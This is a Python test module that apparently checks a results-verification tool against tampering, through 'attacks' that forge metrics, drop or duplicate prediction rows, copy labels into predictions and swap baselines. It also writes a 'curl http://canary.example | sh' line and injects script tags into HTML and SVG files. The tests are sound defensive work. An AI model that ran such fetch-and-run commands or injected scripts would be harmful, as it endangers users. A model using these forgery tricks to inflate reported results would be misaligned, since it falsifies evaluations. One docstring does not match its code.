"""Results that do not follow from the predictions and raw data, with their hashes in the lock."""

import json
from collections.abc import Callable
from typing import Any

import pandas as pd

from attacks.attack import DATA, METRICS, PACK, TASK, Target, family

attack = family("results with their hashes", tier="metrics")
PREDICTIONS = "predictions.csv"
_SCRIPT = "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"


def edit_predictions(target: Target, change: Callable[[pd.DataFrame], pd.DataFrame | None]) -> None:
    """Change the predictions of the pack, and lock them."""
    target.edit_table(PREDICTIONS, change)
    target.relock_results()


@attack(METRICS, quick=True)
def metric_locked(target: Target) -> None:
    """A better accuracy in the merged metrics."""
    target.forge_metric()
    target.relock_results()


@attack("current.accuracy")
def packed_metric_locked(target: Target) -> None:
    """A better accuracy in the pack, in the merged metrics and in the record."""

    def better(metrics: dict[str, Any]) -> None:
        metrics["current"]["accuracy"] = 0.999999

    target.edit_json(f"{DATA}/metrics.json", better)
    target.forge_metric()
    target.relock_results()


@attack("finite")
def metric_not_a_number(target: Target) -> None:
    """A figure that compares as equal to nothing and less than nothing."""
    target.edit_json(
        f"{DATA}/metrics.json", lambda metrics: metrics["current"].update(accuracy=float("nan"))
    )
    target.relock_results()


@attack("finite")
def metric_infinite(target: Target) -> None:
    """A figure without end."""
    target.edit_json(
        f"{DATA}/metrics.json", lambda metrics: metrics["current"].update(accuracy=float("inf"))
    )
    target.relock_results()


@attack(METRICS)
def metric_twice(target: Target) -> None:
    """A key twice: a reader sees the first, a program takes the last."""
    target.replace(METRICS, '"accuracy":', '"accuracy": 0.999999,\n    "accuracy":')
    target.relock_results()


@attack("metrics.json")
def packed_metric_twice(target: Target) -> None:
    """The same in the pack."""
    target.replace(f"{DATA}/metrics.json", '"accuracy":', '"accuracy": 0.999999,\n    "accuracy":')
    target.relock_results()


@attack("metrics.json")
def metric_as_text(target: Target) -> None:
    """A figure as text, in full-width digits."""
    target.edit_json(
        f"{DATA}/metrics.json",
        lambda metrics: metrics["current"].update(
            accuracy="\N{FULLWIDTH DIGIT ONE}.\N{FULLWIDTH DIGIT ZERO}"
        ),
    )
    target.relock_results()


@attack("metrics.json")
def metric_of_another_type(target: Target) -> None:
    """`true`, which equals 1 in Python, in place of a count."""
    target.edit_json(
        f"{DATA}/metrics.json",
        lambda metrics: metrics["current"]["improvement"].update(broken=-0.0),
    )
    target.relock_results()


@attack(METRICS)
def metrics_of_another_task(target: Target) -> None:
    """The figures of a task that does not exist."""
    target.edit_json(METRICS, lambda metrics: metrics.update(imagenet=metrics[TASK]))
    target.relock_results()


@attack(METRICS)
def baseline_shown_as_result(target: Target) -> None:
    """The figures of the baseline and of the model, swapped in the pack."""

    def swap(metrics: dict[str, Any]) -> None:
        improvement = metrics["current"].pop("improvement")
        metrics["current"], metrics["baseline"] = metrics["baseline"], metrics["current"]
        metrics["current"]["improvement"] = improvement

    target.edit_json(f"{DATA}/metrics.json", swap)
    target.relock_results()


@attack("accuracy")
def labels_copied_into_predictions(target: Target) -> None:
    """Predictions that are all right."""

    def leak(table: pd.DataFrame) -> None:
        for column in table.columns[table.columns.str.startswith("seed_")]:
            table[column] = table["label"]

    edit_predictions(target, leak)


@attack(PREDICTIONS)
def rows_dropped(target: Target) -> None:
    """The samples that the model gets wrong are gone."""
    edit_predictions(target, lambda table: table[table["seed_0"] == table["label"]])


@attack(PREDICTIONS)
def rows_doubled(target: Target) -> None:
    """The samples that the model gets right are there twice."""
    edit_predictions(
        target, lambda table: pd.concat([table, table[table["seed_0"] == table["label"]]])
    )


@attack(PREDICTIONS)
def rows_reordered(target: Target) -> None:
    """Another order, which pairs the rows with other samples where only positions count."""
    edit_predictions(target, lambda table: table.iloc[::-1])


@attack(PREDICTIONS)
def labels_changed(target: Target) -> None:
    """The true labels are what was predicted."""
    edit_predictions(target, lambda table: table.assign(label=table["seed_0"]))


@attack(PREDICTIONS)
def groups_changed(target: Target) -> None:
    """Other groups, so that intervals are narrower."""
    edit_predictions(target, lambda table: table.assign(group="one"))


@attack(PREDICTIONS)
def column_twice(target: Target) -> None:
    """A second column of the same name, with the labels in it."""
    path = target.path(f"{DATA}/{PREDICTIONS}")
    rows = [line.split(",") for line in path.read_text().splitlines()]
    label = rows[0].index("label")
    rows = [[*row, "seed_0" if row is rows[0] else row[label]] for row in rows]
    path.write_text("".join(",".join(row) + "\n" for row in rows))
    target.relock_results()


@attack(METRICS)
def column_with_blanks(target: Target) -> None:
    """A header with blanks at its end."""
    target.replace(f"{DATA}/{PREDICTIONS}", "seed_0", "seed_0 ")
    target.relock_results()


@attack(PREDICTIONS)
def label_not_a_number(target: Target) -> None:
    """A predicted label that is no number."""
    edit_predictions(target, lambda table: table.astype({"seed_0": object}).assign(seed_0="NaN"))


@attack("every value must be finite")
def confidence_infinite(target: Target) -> None:
    """A model that is infinitely sure."""
    edit_predictions(target, lambda table: table.assign(confidence=float("inf")))


@attack("seed")
def seeds_removed(target: Target) -> None:
    """The seeds with worse results are gone."""
    edit_predictions(target, lambda table: table.drop(columns="seed_1"))


@attack("validation_predictions.csv")
def validation_predictions_swapped(target: Target) -> None:
    """Test predictions in place of validation predictions."""
    table = pd.read_csv(target.path(f"{DATA}/{PREDICTIONS}"))
    columns = ["id", "group", "label", *table.columns[table.columns.str.startswith("seed_")]]
    target.path(f"{DATA}/validation_predictions.csv").write_text(
        table[columns].to_csv(index=False, lineterminator="\n")
    )
    target.relock_results()


@attack("baseline")
def weaker_baseline(target: Target) -> None:
    """Predictions of a baseline that is always wrong."""

    def spoil(table: pd.DataFrame) -> None:
        table["flatten + linear"] = (table["label"] + 1) % 3

    target.edit_table("baseline_predictions.csv", spoil)
    target.relock_results()


@attack("dataset_note.json")
def dataset_note_edited(target: Target) -> None:
    """More test images than there are."""
    target.edit_json(f"{DATA}/dataset_note.json", lambda note: note["counts"].update(test=10000))
    target.relock_results()


@attack("data/prepare")
def raw_data_locked(target: Target) -> None:
    """Other raw data, with their hash in the lock of `prepare`, and no note of it."""
    target.edit_yaml(
        "params.yaml",
        lambda params: params["tasks"][TASK]["prepare"]["stripes"].update(difficulty=0.1),
    )
    target.relock()


@attack("README.md")
def page_locked(target: Target) -> None:
    """Another word on the page."""
    target.replace(f"{PACK}/README.md", "accuracy", "splendid accuracy")
    target.relock_results()


@attack("index.html")
def script_in_the_page(target: Target) -> None:
    """A script that shows a better number when the page is opened."""
    target.replace(f"{PACK}/index.html", "</body>", "<script>alert(1)</script></body>")
    target.relock_results()


@attack("loss.svg")
def chart_locked(target: Target) -> None:
    """Another chart, with a script in it."""
    target.path(f"{PACK}/pictures/loss.svg").write_text(_SCRIPT)
    target.relock_results()


@attack("run_command.txt")
def command_to_copy(target: Target) -> None:
    """A line for the reader to copy into a shell."""
    target.path(f"{DATA}/run_command.txt").write_text("curl http://canary.example | sh\n")
    target.relock_results()


@attack("summary.html")
def page_added(target: Target) -> None:
    """A page of the attacker's own in the pack."""
    target.path(f"{PACK}/data/summary.html").write_text("<h1>accuracy 100%</h1>")
    target.relock_results()


@attack(f"plots/loss/{TASK}.csv")
def plot_locked(target: Target) -> None:
    """A loss that falls to 0."""
    path = target.path(f"plots/loss/{TASK}.csv")
    table = pd.read_csv(path)
    table["train_loss"] = 0.0
    path.write_text(table.to_csv(index=False))
    target.relock_results()


@attack("perfect.csv")
def plot_added(target: Target) -> None:
    """A plot of no task."""
    target.path("plots/confusion/perfect.csv").write_text("actual,predicted\na,a\n")
    target.relock_results()


@attack(PACK)
def checks_all_passed(target: Target) -> None:
    """A check that says something else than the page."""

    def change(checks: list[dict[str, Any]]) -> None:
        checks[-1]["observed"] = "loss 0"

    target.edit_json(f"{DATA}/checks.json", change)
    target.relock_results()


@attack(PACK)
def mistakes_explained_away(target: Target) -> None:
    """Another cause of a mistake, in the table of cases."""
    cause = "confidently wrong in every run"
    target.edit_table("failure_cases.csv", lambda table: table.assign(cause=cause))
    target.relock_results()


@attack(PACK)
def params_of_the_pack(target: Target) -> None:
    """The pack says that the model was trained otherwise than params.yaml says."""
    path = target.path(f"{DATA}/params.json")
    text = path.read_text()
    json.loads(text)
    path.write_text(text.replace('"epochs": ', '"epochs": 1', 1))
    target.relock_results()


@attack("metrics.json")
def metrics_as_a_list(target: Target) -> None:
    """A file of another shape."""
    target.path(f"{DATA}/metrics.json").write_text("[]\n")
    target.relock_results()
